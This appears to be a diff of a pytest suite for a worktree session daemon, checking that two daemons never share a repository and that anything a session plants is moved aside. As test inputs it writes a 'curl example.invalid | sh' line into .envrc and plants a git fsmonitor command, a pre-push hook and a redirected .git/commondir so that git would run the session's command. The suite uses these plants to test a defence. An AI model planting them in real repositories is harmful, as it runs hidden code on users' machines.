@@ -1,8 +1,9 @@
-"""Two daemons of the user on one state directory (each its own socket: the
-systemd service and one started by hand) never have sessions on one
-worktree, one inside the other, or two worktrees of one repository at once:
-each keeps its own baseline and its own keep of the repository's objects,
-and the second's would undo the first's (dispatchd/daemon/claims.py)."""
+"""Two daemons of the user (each its own socket: the systemd service and one
+started by hand), on one state directory or on two, never have sessions on
+one worktree, one inside the other, or two worktrees of one repository at
+once: each keeps its own baseline and its own keep of the repository's
+objects, and the second's would undo the first's (dispatchd/daemon/claims.py;
+the table they share: dispatchd/daemon/inusedir.py)."""
 
 from __future__ import annotations
 
@@ -11,6 +12,7 @@ import json
 import os
 import signal
 import subprocess
+import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -18,14 +20,21 @@ from pathlib import Path
 import pytest
 
 import dispatch
-from tests.conftest import Daemon, shell, wait_for_pool, wait_until
+from dispatchd.daemon import inusedir
+from tests.conftest import REPO, Daemon, open_when_free, shell, wait_for_pool, wait_until
 
 
-def _claims(d: Daemon) -> list[str]:
-    """The sessions the daemons' entries on ``d``'s state directory hold (spares hold none)."""
-    top = d.state / "dispatchd" / "inuse"
-    return sorted(json.loads(text)["session"] for n in os.listdir(top) if n.endswith(".uses")
-                  if (text := (top / n).read_text()).strip())
+def _claims(d: Daemon, top: Path | None = None) -> list[str]:
+    """The sessions ``d``'s entries in the user's table (``top``) hold (spares hold none)."""
+    top = top or Path(inusedir.shared_path(os.getuid()))
+    found = []
+    for n in os.listdir(top):
+        if n.endswith(".uses"):
+            with contextlib.suppress(FileNotFoundError):  # another test's daemon's, given back meanwhile
+                text = (top / n).read_text()
+                if text.strip() and (e := json.loads(text))["pid"] == d.proc.pid:
+                    found.append(e["session"])
+    return sorted(found)
 
 
 def git(cwd: Path, *args: str) -> str:
@@ -47,14 +56,17 @@ def repo(tmp_path: Path) -> Path:
     return r
 
 
-@pytest.fixture
-def two(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
+@contextlib.contextmanager
+def _pair(tmp_path: Path, *extra: str, one_state: bool) -> Iterator[tuple[Daemon, Daemon]]:
+    """Two daemons, each on its own socket: on one state directory, or each
+    on its own (another XDG_STATE_HOME each). The first may be killed."""
     (tmp_path / "a").mkdir()
     (tmp_path / "b").mkdir()
-    first = Daemon(tmp_path / "a", "--cgroup", "off")
+    first = Daemon(tmp_path / "a", "--cgroup", "off", *extra)
     second = None
     try:
-        second = Daemon(tmp_path / "b", "--cgroup", "off", state=first.state)
+        second = Daemon(tmp_path / "b", "--cgroup", "off", *extra, state=first.state if one_state else None)
+        assert (first.state == second.state) is one_state
         yield first, second
     finally:
         for d, killed in ((second, False), (first, first.proc.poll() == -signal.SIGKILL)):
@@ -62,16 +74,29 @@ def two(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
                 assert d.stop() == (-signal.SIGKILL if killed else 0), d.log()
 
 
+@pytest.fixture
+def two(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
+    with _pair(tmp_path, one_state=True) as pair:
+        yield pair
+
+
+@pytest.fixture
+def apart(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
+    with _pair(tmp_path, one_state=False) as pair:
+        yield pair
+
+
 def _refused(root: Path, sid: str, daemon: Daemon, uses: Path) -> str:
-    return (f"{root}: session {sid} of another dispatchd (pid {daemon.proc.pid}) on this state directory uses "
+    return (f"{root}: session {sid} of another dispatchd (pid {daemon.proc.pid}) uses "
             f"{uses}, which overlaps it, shares its repository or holds it; each dispatchd keeps its own baseline "
             "of a worktree, so the sessions of one at a time use it: close that session, or open this one through "
             "that dispatchd; no session opened")
 
 
-def test_a_second_daemon_s_open_is_refused_while_the_first_s_session_lives(two: tuple[Daemon, Daemon],
+@pytest.mark.parametrize("pair", ["two", "apart"], ids=["one_state_directory", "two_state_directories"])
+def test_a_second_daemon_s_open_is_refused_while_the_first_s_session_lives(pair: str, request: pytest.FixtureRequest,
                                                                            repo: Path, tmp_path: Path) -> None:
-    first, second = two
+    first, second = request.getfixturevalue(pair)
     linked = repo.parent / "linked"
     git(repo, "worktree", "add", "-q", str(linked), "-b", "side")
     elsewhere = tmp_path / "elsewhere"
@@ -85,8 +110,13 @@ def test_a_second_daemon_s_open_is_refused_while_the_first_s_session_lives(two: 
         assert c2.list_sessions() == []
         with c2.open_session(str(elsewhere)) as beside:  # the twin: an unrelated worktree
             assert shell(beside, "touch x").is_success
+        other = repo.parent / "other"  # and another repository beside it
+        other.mkdir()
+        git(other, "init", "-q")
+        with c2.open_session(str(other)) as beside:
+            assert shell(beside, "touch x").is_success
         s1.close()
-        with _when_free(c2, repo) as s2:  # and once the first's session has ended
+        with open_when_free(c2, repo) as s2:  # and once the first's session has ended
             assert shell(s2, "touch y").is_success
         assert wait_until(lambda: _claims(first) == [])
 
@@ -107,16 +137,17 @@ def test_the_first_daemon_s_keep_is_not_undone(two: tuple[Daemon, Daemon], repo:
                 c2.open_session(str(repo))
         assert sorted(p.relative_to(repo) for p in (repo / ".git" / "objects").glob("??/*")) == objects
         git(repo, "fsck", "--strict")
-        with _when_free(c2, repo) as s2:  # the twin: once it has ended, the other daemon opens
+        with open_when_free(c2, repo) as s2:  # the twin: once it has ended, the other daemon opens
             assert shell(s2, "git log --format=%s").output == "init\n"
 
 
-def test_a_killed_daemon_s_baseline_is_checked_before_another_daemon_opens(two: tuple[Daemon, Daemon],
+@pytest.mark.parametrize("pair", ["two", "apart"], ids=["one_state_directory", "two_state_directories"])
+def test_a_killed_daemon_s_baseline_is_checked_before_another_daemon_opens(pair: str, request: pytest.FixtureRequest,
                                                                             repo: Path) -> None:
     """What its session planted is moved aside by the daemon still running,
-    at the next open there, as a daemon's start would; not taken into that
-    open's baseline."""
-    first, second = two
+    at the next open there, as a daemon's start would (in the killed one's
+    state directory, whichever it is); not taken into that open's baseline."""
+    first, second = request.getfixturevalue(pair)
     c1 = first.connect()
     s1 = c1.open_session(str(repo))
     assert shell(s1, "echo 'curl example.invalid | sh' > .envrc").is_success
@@ -136,35 +167,10 @@ def test_a_killed_daemon_s_baseline_is_checked_before_another_daemon_opens(two: 
     assert wait_until(lambda: _claims(second) == [])
 
 
-def _when_free(client: dispatch.Client, root: Path) -> dispatch.Session:
-    """A session on ``root`` once the other daemon's last session there has
-    given it back (after its close's reply, once its baseline's record is gone)."""
-    opened: list[dispatch.Session] = []
-
-    def attempt() -> bool:
-        try:
-            opened.append(client.open_session(str(root)))
-        except dispatch.DispatchError as exc:
-            assert "of another dispatchd" in str(exc), str(exc)
-            return False
-        return True
-    assert wait_until(attempt, timeout=10)
-    return opened[0]
-
-
 @pytest.fixture
 def two_degraded(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
-    (tmp_path / "a").mkdir()
-    (tmp_path / "b").mkdir()
-    first = Daemon(tmp_path / "a", "--cgroup", "off", "--no-user-namespaces")
-    second = None
-    try:
-        second = Daemon(tmp_path / "b", "--cgroup", "off", "--no-user-namespaces", state=first.state)
-        yield first, second
-    finally:
-        for d, killed in ((second, False), (first, first.proc.poll() == -signal.SIGKILL)):
-            if d is not None:
-                assert d.stop() == (-signal.SIGKILL if killed else 0), d.log()
+    with _pair(tmp_path, "--no-user-namespaces", one_state=True) as pair:
+        yield pair
 
 
 def test_the_git_metadata_is_looked_at_again_after_a_dead_daemon_s_remains(two_degraded: tuple[Daemon, Daemon],
@@ -186,7 +192,7 @@ def test_the_git_metadata_is_looked_at_again_after_a_dead_daemon_s_remains(two_d
     hook = repo / ".git" / "hooks" / "pre-commit"
     assert hook.exists()
     with second.connect() as c2:
-        s2 = _when_free(c2, repo)
+        s2 = open_when_free(c2, repo)
         assert not hook.exists()  # moved aside before this session's baseline
         assert shell(s2, plant).is_success
         s2.close()
@@ -202,23 +208,33 @@ def _opens(client: dispatch.Client, root: Path) -> bool:
     return True
 
 
-def test_an_open_whose_use_cannot_be_recorded_is_refused(two: tuple[Daemon, Daemon], repo: Path) -> None:
-    first, _ = two
-    mutex = first.state / "dispatchd" / "inuse" / ".mutex"
-    with first.connect() as c1:
-        c1.open_session(str(repo)).close()  # the table exists
-        # What every claim locks cannot be opened (a mode changed is set back: test_state_modes.py).
-        mutex.unlink()
-        mutex.mkdir()
-        try:
-            with pytest.raises(dispatch.DispatchError) as err:
-                c1.open_session(str(repo))
-        finally:
-            mutex.rmdir()
-        assert str(err.value) == (f"{repo}: its use could not be recorded for the other daemons on this state "
-                                  "directory (Is a directory); no session opened")
-        assert c1.list_sessions() == []
-        c1.open_session(str(repo)).close()  # the twin: recorded, it opens
+def test_an_open_whose_use_cannot_be_recorded_is_refused(tmp_path: Path, repo: Path) -> None:
+    """A daemon whose table is its own (another home in its passwd entry, so
+    that breaking it leaves the other tests' daemons alone)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (tmp_path / "d").mkdir()
+    first = Daemon(tmp_path / "d", "--cgroup", "off", prefix=(sys.executable, str(REPO / "tests" / "passwd_home.py"),
+                                                               str(home)))
+    mutex = home / ".local" / "state" / "dispatchd" / "inuse" / ".mutex"
+    try:
+        with first.connect() as c1:
+            c1.open_session(str(repo)).close()  # the table exists
+            assert wait_until(lambda: _claims(first, mutex.parent) == [])  # given back after the close's reply
+            # What every claim locks cannot be opened (a mode changed is set back: test_state_modes.py).
+            mutex.unlink()
+            mutex.mkdir()
+            try:
+                with pytest.raises(dispatch.DispatchError) as err:
+                    c1.open_session(str(repo))
+            finally:
+                mutex.rmdir()
+            assert str(err.value) == (f"{repo}: its use could not be recorded for your other dispatchd daemons "
+                                      "(Is a directory); no session opened")
+            assert c1.list_sessions() == []
+            c1.open_session(str(repo)).close()  # the twin: recorded, it opens
+    finally:
+        assert first.stop() == 0, first.log()
 
 
 def test_sessions_leave_no_descriptor_and_no_entry(two: tuple[Daemon, Daemon], repo: Path) -> None:
@@ -243,3 +259,55 @@ def _fewest_fds(d: Daemon) -> int:
         seen.append(len(os.listdir(f"/proc/{d.proc.pid}/fd")))
         time.sleep(0.02)
     return min(seen)
+
+
+@pytest.fixture(params=["full", "degraded"])
+def apart_in_mode(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, Daemon, Daemon]]:
+    """``apart``, in both modes (degraded: the git metadata writable while a session runs)."""
+    extra = ("--no-user-namespaces",) if request.param == "degraded" else ()
+    with _pair(tmp_path, *extra, one_state=False) as (first, second):
+        yield request.param, first, second
+
+
+# What a session can change that the user's git runs: in degraded mode the
+# config and a hook; in full mode (those held read-only) `.git/commondir`,
+# aimed at a common directory it builds in the worktree, whose config runs.
+_PLANTS = {
+    "degraded": """set -e
+git config core.fsmonitor 'touch {mark}; false'
+printf '#!/bin/sh\\ntouch {mark}\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push""",
+    "full": """set -e
+mkdir -p build/cc/objects/info build/cc/refs/heads build/cc/refs/tags
+echo "$PWD/.git/objects" > build/cc/objects/info/alternates
+cp .git/refs/heads/* build/cc/refs/heads/
+printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = "touch {mark}; false"\\n' > build/cc/config
+echo ../build/cc > .git/commondir""",
+}
+
+
+def test_a_plant_is_never_put_back_by_a_daemon_on_another_state_directory(
+        apart_in_mode: tuple[str, Daemon, Daemon], repo: Path, tmp_path: Path) -> None:
+    """A session of the first daemon plants what the user's git runs; the
+    second daemon, on a state directory of its own, is refused while it
+    runs, so it never takes the plant for the user's. The first's end moves
+    the plant aside; the second's session opened after it, and its end,
+    bring nothing back: the user's `git status` runs nothing of the session's."""
+    mode, first, second = apart_in_mode
+    mark = tmp_path / "ran"
+    with first.connect() as c1, second.connect() as c2:
+        s1 = c1.open_session(str(repo))
+        r = shell(s1, _PLANTS[mode].format(mark=mark))
+        assert r.is_success, (r.error, r.output)
+        with pytest.raises(dispatch.DispatchError) as err:
+            c2.open_session(str(repo))
+        assert str(err.value) == _refused(repo, s1.id, first, repo), str(err.value)
+        assert c2.list_sessions() == []
+        s1.close()
+        with open_when_free(c2, repo) as s2:  # the twin: once the first's session has ended, it opens
+            assert shell(s2, "git status --short").is_success
+    for what in (".git/commondir", ".git/hooks/pre-push"):
+        assert not (repo / what).exists(), what
+    fsmonitor = subprocess.run(["git", "config", "--get", "core.fsmonitor"], cwd=repo, capture_output=True, timeout=60)
+    assert fsmonitor.returncode == 1, fsmonitor.stdout
+    git(repo, "status")
+    assert not mark.exists(), "the user's git ran the session's command"
